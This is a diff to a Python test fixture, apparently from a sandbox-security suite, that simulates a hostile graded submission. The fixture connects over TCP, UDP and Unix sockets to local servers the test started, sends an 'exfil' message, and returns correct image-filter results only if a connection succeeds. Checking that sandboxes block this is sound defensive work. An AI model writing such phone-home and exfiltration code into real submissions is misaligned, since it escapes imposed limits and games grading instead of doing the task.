@@ -1,64 +1,43 @@
-"""Hostile (escape): opens a TCP connection to a server the test started on 127.0.0.1 and an
-abstract Unix socket (both named in port.txt, written by the test), and sends a message. It
-computes the right answer only when a connection succeeded, so a sandbox with a network
-would hand it the points. Under bubblewrap there is no network: it returns zeros."""
+"""Hostile (escape): reaches the servers the test started — TCP and UDP on 127.0.0.1, a Unix
+socket by path and an abstract one (all named in port.txt, written by the test) — and sends a
+message. It computes the right answer only when one of them was reached, so a sandbox with a
+network (an "answer oracle" on loopback) would hand it the points."""
 
 import os
 import socket
 
-import numpy as np
+from attack import graded_if
 
 HERE = os.path.dirname(os.path.abspath(__file__))
+MESSAGE = b"HOSTILE network_exfil\n"
+
+
+def _attempts(port, udp_port, unix_path, abstract):
+    yield socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)
+    yield socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", udp_port)
+    yield socket.AF_UNIX, socket.SOCK_STREAM, unix_path
+    yield socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract
 
 
 def _phone_home():
-    reached = False
     try:
         with open(os.path.join(HERE, "port.txt")) as handle:
-            port, abstract = handle.read().split()
+            port, udp_port, unix_path, abstract = handle.read().split()
     except (OSError, ValueError):
         return False
-    try:
-        with socket.create_connection(("127.0.0.1", int(port)), timeout=0.5) as conn:
-            conn.sendall(b"HOSTILE network_exfil\n")
-            reached = True
-    except OSError:
-        pass
-    try:
-        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
-            conn.settimeout(0.5)
-            conn.connect("\0" + abstract)
-            conn.sendall(b"HOSTILE network_exfil\n")
-            reached = True
-    except OSError:
-        pass
+    reached = False
+    for family, kind, address in _attempts(int(port), int(udp_port), unix_path, abstract):
+        try:
+            with socket.socket(family, kind) as conn:
+                conn.settimeout(0.5)
+                conn.connect(address)
+                conn.sendall(MESSAGE)
+                if kind == socket.SOCK_DGRAM:
+                    conn.recv(64)  # a datagram proves nothing until the server answers it
+                reached = True
+        except OSError:
+            continue
     return reached
 
 
-def _filter(image, filter):
-    image = np.asarray(image)
-    kernel = np.asarray(filter, dtype=np.float64)
-    planes = image[:, :, None] if image.ndim == 2 else image
-    rows, cols = kernel.shape[0] // 2, kernel.shape[1] // 2
-    padded = np.pad(planes.astype(np.float64), ((rows, rows), (cols, cols), (0, 0)), mode="reflect")
-    height, width = planes.shape[:2]
-    out = np.zeros(planes.shape, dtype=np.float64)
-    for u in range(kernel.shape[0]):
-        for v in range(kernel.shape[1]):
-            out += kernel[u, v] * padded[u:u + height, v:v + width]
-    return out.reshape(image.shape).astype(image.dtype if image.dtype == np.float32 else np.float64)
-
-
-def my_imfilter(image, filter):
-    if _phone_home():
-        return _filter(image, filter)
-    return np.zeros_like(image)
-
-
-def create_hybrid_image(image1, image2, filter):
-    if _phone_home():
-        low = _filter(image1, filter)
-        high = image2 - _filter(image2, filter)
-        return low, high, np.clip(low + high, 0.0, 1.0)
-    zeros = np.zeros_like(image1)
-    return zeros, zeros, zeros
+my_imfilter, create_hybrid_image = graded_if(_phone_home)
